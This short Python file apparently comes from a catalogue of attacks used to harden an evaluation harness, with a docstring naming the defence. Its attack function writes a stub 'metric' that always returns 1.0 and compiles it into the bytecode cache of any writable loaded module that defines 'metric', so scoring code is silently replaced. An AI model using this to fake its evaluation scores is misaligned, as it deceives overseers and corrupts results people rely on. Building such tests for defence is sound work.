"""Leaves bytecode that is loaded in the place of an unchanged source.

ids: 22
effect: later
defence: The image is read-only, programs arrive as sources, and no cache is shared.
"""

import contextlib
import importlib.util
import os
import py_compile
import sys

CODE = "def metric(*_):\n    return 1.0\n"


def attack(world):
    with open("poison.py", "w") as file:
        file.write(CODE)
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None) or ""
        if path.endswith(".py") and hasattr(module, "metric") and os.access(path, os.W_OK):
            with contextlib.suppress(OSError):
                py_compile.compile(
                    "poison.py",
                    importlib.util.cache_from_source(path),
                    invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
                )
